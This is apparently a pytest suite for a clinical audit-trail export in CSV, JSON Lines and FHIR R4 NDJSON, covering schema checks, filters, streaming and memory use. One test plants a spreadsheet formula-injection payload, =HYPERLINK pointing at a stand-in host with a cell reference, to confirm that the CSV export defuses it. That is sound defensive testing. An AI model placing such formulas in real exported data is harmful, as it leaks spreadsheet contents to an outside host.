"""The audit export: CSV, JSON Lines and FHIR R4 AuditEvent NDJSON, streamed in constant memory."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import tracemalloc
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from sqlalchemy import event, insert

from carepath.engine.application import CarePath
from carepath.engine.audit import AuditFilter, AuditRecord
from carepath.engine.audit_export import CHUNK_ROWS, CSV_COLUMNS, export_chunks
from carepath.engine.clock import ManualClock
from carepath.engine.errors import ValidationFailed
from carepath.engine.identity import Principal, Role
from carepath.engine.persistence.chain import event_hash, read_head
from carepath.engine.persistence.tables import Event
from carepath.engine.usecases.audit import export_audit
from tests.support import diagrams as d
from tests.support.api import ApiClient
from tests.test_task_assignment import camunda_task

# --- a checker for FHIR R4 AuditEvent (http://hl7.org/fhir/R4/auditevent.html), no FHIR library ---
R4_ELEMENTS = {"resourceType", "id", "meta", "implicitRules", "language", "text", "contained", "extension",
               "modifierExtension", "type", "subtype", "action", "period", "recorded", "outcome", "outcomeDesc",
               "purposeOfEvent", "agent", "source", "entity"}
AGENT_ELEMENTS = {"type", "role", "who", "altId", "name", "requestor", "location", "policy", "media", "network",
                  "purposeOfUse", "extension"}
ENTITY_ELEMENTS = {"what", "type", "role", "lifecycle", "securityLabel", "name", "description", "query", "detail",
                   "extension"}
# Codes of the required and extensible bindings we use (R4 value sets).
ACTIONS = {"C", "R", "U", "D", "E"}  # audit-event-action, required
OUTCOMES = {"0", "4", "8", "12"}  # audit-event-outcome, required
EVENT_TYPES = {"http://terminology.hl7.org/CodeSystem/audit-event-type": {"rest"},
               "http://dicom.nema.org/resources/ontology/DCM": {"110100", "110101", "110102", "110103", "110104",
                                                                 "110105", "110106", "110107", "110108", "110109",
                                                                 "110110", "110111", "110112", "110113", "110114",
                                                                 "110135", "110136", "110137"}}
INTERACTIONS = {"read", "vread", "update", "patch", "delete", "history", "history-instance", "history-type",
                "history-system", "create", "search", "search-type", "search-system", "capabilities",
                "transaction", "batch", "operation"}
ENTITY_TYPES = {"1", "2", "3", "4"}  # audit-entity-type
OBJECT_ROLES = {str(n) for n in range(1, 25)}  # object-role
NETWORK_TYPES = {"1", "2", "3", "4", "5"}  # network-type
INSTANT = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$")
FHIR_ID = re.compile(r"^[A-Za-z0-9\-.]{1,64}$")


def _one(resource: dict[str, Any], name: str) -> Any:
    assert name in resource and resource[name] not in (None, "", [], {}), f"{name} is 1..1"
    assert not isinstance(resource[name], list), f"{name} is not repeating"
    return resource[name]


def _coding(coding: dict[str, Any], codes: dict[str, set[str]] | None = None) -> None:
    assert isinstance(coding.get("system"), str) and isinstance(coding.get("code"), str), coding
    if codes is not None and coding["system"] in codes:
        assert coding["code"] in codes[coding["system"]], coding


def _reference(reference: dict[str, Any]) -> None:
    assert set(reference) <= {"reference", "type", "identifier", "display"}, reference
    assert reference.get("reference") or reference.get("identifier") or reference.get("display"), reference


def check_r4_audit_event(resource: dict[str, Any]) -> None:
    """The R4 cardinalities and bindings of AuditEvent that an export must honour."""
    assert resource.get("resourceType") == "AuditEvent"
    assert set(resource) <= R4_ELEMENTS, set(resource) - R4_ELEMENTS
    assert FHIR_ID.match(resource["id"])
    event_type = _one(resource, "type")
    assert event_type["system"] in EVENT_TYPES, event_type
    _coding(event_type, EVENT_TYPES)
    for coding in resource.get("subtype", []):
        _coding(coding, {"http://hl7.org/fhir/restful-interaction": INTERACTIONS})
    assert resource.get("action", "E") in ACTIONS
    assert INSTANT.match(_one(resource, "recorded")), resource["recorded"]
    assert resource.get("outcome", "0") in OUTCOMES
    agents = resource["agent"]
    assert isinstance(agents, list) and len(agents) >= 1, "agent is 1..*"
    for agent in agents:
        assert set(agent) <= AGENT_ELEMENTS, agent
        assert isinstance(agent.get("requestor"), bool), "agent.requestor is 1..1"
        if "who" in agent:
            _reference(agent["who"])
        if "network" in agent:
            assert agent["network"]["type"] in NETWORK_TYPES and agent["network"]["address"]
    source = _one(resource, "source")
    _reference(_one(source, "observer"))
    for coding in source.get("type", []):
        _coding(coding, {"http://terminology.hl7.org/CodeSystem/security-source-type": {str(n) for n in range(1, 10)}})
    for entity in resource.get("entity", []):
        assert set(entity) <= ENTITY_ELEMENTS, entity
        assert not ("name" in entity and "query" in entity), "sev-1"
        if "what" in entity:
            _reference(entity["what"])
        if "type" in entity:
            _coding(entity["type"], {"http://terminology.hl7.org/CodeSystem/audit-entity-type": ENTITY_TYPES})
        if "role" in entity:
            _coding(entity["role"], {"http://terminology.hl7.org/CodeSystem/object-role": OBJECT_ROLES})
        for detail in entity.get("detail", []):
            assert isinstance(detail["type"], str) and ("valueString" in detail or "valueBase64Binary" in detail)
    for extension in resource.get("extension", []):
        assert isinstance(extension["url"], str) and ":" in extension["url"]
        assert len([k for k in extension if k.startswith("value")]) == 1


# --- the story ---

def _story(api: ApiClient, clock: ManualClock) -> dict[str, Any]:
    api.user("admin", name="admin")
    api.user("auditor", name="auditor")
    api.user("coordinator", "pharmacy", name="coord")
    assert api.deploy("admin", ("a.bpmn", camunda_task("alpha", candidateGroups="pharmacy"))).status_code == 201
    started = api.start("coord", "alpha", patient_id="pat-7").json()
    task_id = started["open_tasks"][0]["id"]
    clock.advance(timedelta(minutes=5))
    api.get(f"/api/instances/{started['id']}/history", "coord")
    api.post(f"/api/tasks/{task_id}/claim", "coord")
    api.post(f"/api/tasks/{task_id}/complete", "coord", {"data": {"note": "called, all well"}})
    return {"instance_id": started["id"], "task_id": task_id}


def _export(api: ApiClient, fmt: str, **params: Any) -> str:
    response = api.get("/api/audit/export", "auditor", params={"format": fmt, **params})
    assert response.status_code == 200, response.text
    assert "content-length" not in response.headers  # streamed, not sized up front
    return response.text


def _whats(resource: dict[str, Any]) -> dict[str, str]:
    """The identifiers of the resource's entities, by system."""
    return {e["what"]["identifier"]["system"]: e["what"]["identifier"]["value"] for e in resource["entity"]
            if "what" in e}


def test_fhir_export_is_valid_r4_audit_events(api: ApiClient, clock: ManualClock) -> None:
    story = _story(api, clock)
    response = api.get("/api/audit/export", "auditor", params={"format": "fhir"})
    assert response.headers["content-type"].startswith("application/fhir+ndjson")
    resources = [json.loads(line) for line in response.text.splitlines()]
    # Each export is itself recorded first ("Audit Log Used"), so the later one carries one more row.
    assert len(resources) + 1 == len(_export(api, "jsonl").splitlines()) > 5
    for resource in resources:
        check_r4_audit_event(resource)
    by_type = {r["subtype"][-1]["code"]: r for r in resources}
    viewed = by_type["record_viewed"]
    assert (viewed["type"]["code"], viewed["action"], viewed["subtype"][0]["code"]) == ("rest", "R", "history-instance")
    assert viewed["agent"][0]["requestor"] is True and viewed["agent"][0]["who"]["display"] == "coord"
    assert viewed["agent"][0]["network"] == {"address": "testclient", "type": "2"}
    assert _whats(viewed) == {"urn:carepath:patient-id": "pat-7", "urn:carepath:instance": story["instance_id"]}
    assert (by_type["instance_started"]["action"], by_type["task_claimed"]["action"]) == ("C", "U")
    assert by_type["user_added"]["type"]["code"] == "110137"
    completed = by_type["task_completed"]
    assert _whats(completed)["urn:carepath:task"] == story["task_id"]
    assert completed["extension"][0]["valueIdentifier"]["value"] == completed["id"]


def test_system_actions_have_no_requestor_and_failures_an_outcome() -> None:
    from carepath.engine.audit_fhir import fhir_audit_event

    record = AuditRecord(id=9, at=ManualClock()(), type="timer_failed", actor="scheduler", instance_id="i-1",
                         patient_id=None, pathway="alpha", task_id="t-1", data={"error": "division by zero"})
    resource = fhir_audit_event(record, "https://carepath.example/")
    check_r4_audit_event(resource)
    assert resource["agent"][0]["requestor"] is False
    assert (resource["action"], resource["outcome"], resource["outcomeDesc"]) == ("E", "4", "division by zero")


def test_csv_and_jsonl_carry_the_same_events(api: ApiClient, clock: ManualClock) -> None:
    story = _story(api, clock)
    rows = list(csv.DictReader(io.StringIO(_export(api, "csv"))))
    lines = [json.loads(line) for line in _export(api, "jsonl").splitlines()]
    assert tuple(rows[0]) == CSV_COLUMNS
    assert lines[-1]["type"] == "audit_log_used"  # the JSON Lines export itself, recorded after the CSV one
    assert [int(r["id"]) for r in rows] == [e["id"] for e in lines][:-1] == sorted(e["id"] for e in lines)[:-1]
    completed = next(r for r in rows if r["type"] == "task_completed")
    assert (completed["patient_id"], completed["pathway"], completed["task_id"]) == ("pat-7", "alpha",
                                                                                     story["task_id"])
    assert json.loads(completed["data"])["data"] == {"note": "called, all well"}
    assert next(e for e in lines if e["type"] == "task_completed")["data"]["data"] == {"note": "called, all well"}
    only = [json.loads(line) for line in _export(api, "jsonl", instance_id=story["instance_id"]).splitlines()]
    assert only and {e["instance_id"] for e in only} == {story["instance_id"]}
    later = _export(api, "jsonl", **{"from": (clock() - timedelta(minutes=1)).isoformat()}).splitlines()
    assert later and all(json.loads(line)["at"] >= "2026-01-05T09:04" for line in later)


def _many_events(engine: CarePath, instance_id: str, count: int) -> None:
    """Bulk rows that extend the instance's hash chain as the product would, so the history stays valid."""
    at = engine.now()
    with engine.db.write_sessions() as session:
        seq, prev = read_head(session, instance_id)
        rows = []
        for n in range(count):
            seq += 1
            row = {"instance_id": instance_id, "task_id": None, "pathway_version_id": None, "type": "task_comment",
                   "actor": "coord", "at": at, "data": {"text": f"note {n} " + "x" * 400}, "chain": instance_id,
                   "seq": seq, "prev_hash": prev}
            row["hash"] = prev = event_hash(**row)
            rows.append(row)
        session.execute(insert(Event), rows)
        session.commit()


def test_ten_thousand_events_export_in_every_format(api: ApiClient, clock: ManualClock) -> None:
    story = _story(api, clock)
    _many_events(api.engine, story["instance_id"], 10_500)
    expected = api.get("/api/audit/events", "auditor", params={"exact_total": True, "limit": 1}).json()["total"]
    assert expected > 10_500
    # Every read of the trail adds one "Audit Log Used" row before it is answered.
    jsonl = [json.loads(line) for line in _export(api, "jsonl").splitlines()]
    assert len(jsonl) == expected + 1 and [e["id"] for e in jsonl] == list(range(1, expected + 2))
    assert len(list(csv.DictReader(io.StringIO(_export(api, "csv"))))) == expected + 2
    fhir = _export(api, "fhir").splitlines()
    assert len(fhir) == expected + 3
    check_r4_audit_event(json.loads(fhir[-1]))


def test_writers_pull_records_only_as_chunks_are_taken() -> None:
    pulled = itertools.count()
    at = ManualClock()()

    def endless() -> Iterator[AuditRecord]:
        for n in itertools.count(1):
            next(pulled)
            yield AuditRecord(n, at, "task_comment", "coord", "i-1", "pat-1", "alpha", None, {"text": "hi"})

    for fmt in ("csv", "jsonl", "fhir"):
        pulled = itertools.count()
        chunks = export_chunks(endless(), fmt, observer="x")
        taken = list(itertools.islice(chunks, 3))
        header = 1 if fmt == "csv" else 0
        written = sum(chunk.count("\n") for chunk in taken) - header
        assert next(pulled) == written <= 3 * CHUNK_ROWS, fmt


def _export_size_and_peak(engine: CarePath) -> tuple[int, int]:
    chunks = export_audit(engine, Principal("auditor", Role.AUDITOR), AuditFilter(newest_first=False), "jsonl",
                          observer="x")
    tracemalloc.start()
    try:
        size = sum(len(chunk) for chunk in chunks)
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_export_runs_its_query_before_the_first_byte_then_reads_a_batch_at_a_time(engine: CarePath, api: ApiClient,
                                                                                clock: ManualClock) -> None:
    story = _story(api, clock)
    _many_events(engine, story["instance_id"], 3_000)
    statements: list[str] = []
    event.listen(engine.db.engine, "before_cursor_execute", lambda *args: statements.append(args[2]))
    chunks = export_audit(engine, Principal("auditor", Role.AUDITOR), AuditFilter(), "csv", observer="x")
    # Checked, its use recorded ("Audit Log Used") and the query run at once, so that an error is known
    # before the first byte; the rows are then taken from the open cursor a batch at a time.
    reads = [s for s in statements if s.lstrip().upper().startswith("SELECT") and "FROM events" in s]
    statements.clear()
    assert len(reads) >= 1
    assert next(chunks).startswith("id,at,type")
    assert next(chunks).count("\n") == CHUNK_ROWS
    assert [s for s in statements if s.lstrip().upper().startswith("SELECT")] == []
    chunks.close()  # a client that goes away ends the read session


def test_export_memory_does_not_grow_with_the_number_of_events(engine: CarePath, api: ApiClient,
                                                               clock: ManualClock) -> None:
    story = _story(api, clock)
    _many_events(engine, story["instance_id"], 5_000)
    small_size, small_peak = _export_size_and_peak(engine)
    _many_events(engine, story["instance_id"], 15_000)
    large_size, large_peak = _export_size_and_peak(engine)
    assert large_size > 3.5 * small_size
    assert large_peak < 1.3 * small_peak, (small_peak, large_peak)


def _jsonl(api: ApiClient, **params: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in _export(api, "jsonl", **params).splitlines()]


def test_every_filter_of_the_list_narrows_the_export(api: ApiClient, clock: ManualClock) -> None:
    story = _story(api, clock)
    assert api.deploy("admin", ("b.bpmn", camunda_task("beta", candidateGroups="pharmacy"))).status_code == 201
    clock.advance(timedelta(hours=1))
    middle = clock()
    other = api.start("admin", "beta", patient_id="pat-42").json()
    everything = _jsonl(api)
    assert {e["patient_id"] for e in everything} >= {"pat-7", "pat-42", None}
    cases: list[tuple[dict[str, Any], Any]] = [
        ({"patient_id": "pat-42"}, lambda e: e["patient_id"] == "pat-42"),
        ({"user": "admin"}, lambda e: e["actor"] == "admin"),
        ({"pathway": "beta"}, lambda e: e["pathway"] == "beta"),
        ({"type": ["task_claimed", "task_completed"]}, lambda e: e["type"] in ("task_claimed", "task_completed")),
        ({"instance_id": other["id"]}, lambda e: e["instance_id"] == other["id"]),
        ({"from": middle.isoformat()}, lambda e: e["at"] >= "2026-01-05T10:05"),
        ({"to": middle.isoformat()}, lambda e: e["at"] < "2026-01-05T10:05"),
    ]
    for params, matches in cases:
        for fmt in ("jsonl", "csv", "fhir"):
            body = _export(api, fmt, **params)
            assert body.strip(), (params, fmt)
        everything = _jsonl(api)
        narrowed = _jsonl(api, **params)  # it may carry its own "Audit Log Used", recorded after `everything`
        assert narrowed and all(matches(e) for e in narrowed), params
        expected = [e["id"] for e in everything if matches(e)]
        assert [e["id"] for e in narrowed if e["id"] <= everything[-1]["id"]] == expected, params
        assert len(expected) < len(everything), params
    assert {e["id"] for e in _jsonl(api, patient_id="pat-7")} == {
        e["id"] for e in everything if e["instance_id"] == story["instance_id"]}
    csv_rows = list(csv.DictReader(io.StringIO(_export(api, "csv", patient_id="pat-42"))))
    assert csv_rows and {r["patient_id"] for r in csv_rows} == {"pat-42"}
    fhir = [json.loads(line) for line in _export(api, "fhir", patient_id="pat-42").splitlines()]
    assert fhir and all(_whats(r)["urn:carepath:patient-id"] == "pat-42" for r in fhir)


def test_exports_carry_the_pathway_version(api: ApiClient, clock: ManualClock) -> None:
    story = _story(api, clock)
    assert api.deploy("admin", ("a.bpmn", camunda_task("alpha", candidateGroups="nursing"))).status_code == 201
    second = api.start("coord", "alpha", patient_id="pat-8").json()
    rows = list(csv.DictReader(io.StringIO(_export(api, "csv"))))
    assert CSV_COLUMNS == ("id", "at", "type", "actor", "instance_id", "patient_id", "pathway", "task_id", "data",
                           "pathway_version")  # the new column is appended: the others stay where they were
    assert {r["pathway_version"] for r in rows if r["instance_id"] == story["instance_id"]} == {"1"}
    assert {r["pathway_version"] for r in rows if r["instance_id"] == second["id"]} == {"2"}
    assert {r["pathway_version"] for r in rows if r["type"] == "user_added"} == {""}
    lines = _jsonl(api)
    assert {e["pathway_version"] for e in lines if e["instance_id"] == second["id"]} == {2}
    assert [e["pathway_version"] for e in lines if e["type"] == "pathway_deployed"] == [1, 2]
    fhir = [json.loads(line) for line in _export(api, "fhir").splitlines()]
    displays = {e["what"]["display"] for r in fhir for e in r["entity"]
                if e.get("what", {}).get("identifier", {}).get("system") in ("urn:carepath:instance",
                                                                             "urn:carepath:pathway")}
    assert displays == {"alpha v1", "alpha v2"}
    for resource in fhir:
        check_r4_audit_event(resource)


def test_an_export_window_outside_the_calendar_is_refused_before_the_first_chunk(engine: CarePath) -> None:
    plus_14 = timezone(timedelta(hours=14))
    auditor = Principal("auditor", Role.AUDITOR)
    for bad, field in ((AuditFilter(since=datetime(1, 1, 1, tzinfo=plus_14)), "from"),
                       (AuditFilter(until=datetime(2026, 1, 1)), "to")):
        with pytest.raises(ValidationFailed) as refused:
            export_audit(engine, auditor, bad, "fhir", observer="x")
        assert refused.value.problems[0].field == field


def test_the_audit_log_used_event_carries_the_client_address_in_fhir(api: ApiClient, clock: ManualClock) -> None:
    _story(api, clock)
    _export(api, "csv")
    fhir = [json.loads(line) for line in _export(api, "fhir", type="audit_log_used").splitlines()]
    assert fhir and all(r["agent"][0]["network"] == {"address": "testclient", "type": "2"} for r in fhir)


def test_csv_export_defuses_cells_a_spreadsheet_would_run(api: ApiClient) -> None:
    lead = api.user("clinical_lead")
    api.deploy(lead, ("fu.bpmn", d.linear_user_tasks("fu", "Call patient")))
    started = api.start(lead, "fu", business_key='=HYPERLINK("http://x/?"&A1)', patient_id="+1-555").json()
    body = api.get("/api/audit/export", api.user("auditor"),
                   params={"format": "csv", "instance_id": started["id"], "type": "instance_started"}).text
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["patient_id"] == "'+1-555"
    assert json.loads(row["data"])["business_key"] == '=HYPERLINK("http://x/?"&A1)'  # JSON cells start with {


def test_an_export_that_matches_no_event_is_an_empty_file(api: ApiClient) -> None:
    """JSON Lines and FHIR NDJSON of no event are empty (CSV keeps its header); found by schemathesis as a 500."""
    auditor = api.user("auditor")
    for fmt, body in (("jsonl", ""), ("fhir", ""), ("csv", None)):
        response = api.get("/api/audit/export", auditor, params={"format": fmt, "user": "nobody-did-this"})
        assert response.status_code == 200, (fmt, response.text)
        if body is not None:
            assert response.text == body, fmt
        else:
            assert response.text.splitlines()[0].startswith("id,")
